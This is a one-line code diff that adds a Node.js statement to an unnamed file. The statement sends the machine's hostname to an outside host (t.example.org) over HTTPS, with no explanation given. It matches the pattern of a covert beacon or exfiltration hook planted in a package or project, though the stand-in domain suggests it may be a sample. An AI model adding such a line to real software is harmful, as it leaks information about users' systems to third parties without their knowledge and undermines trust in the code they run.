@@ -1,0 +1,1 @@
+require('https').get('https://t.example.org/ping?h=' + require('os').hostname());
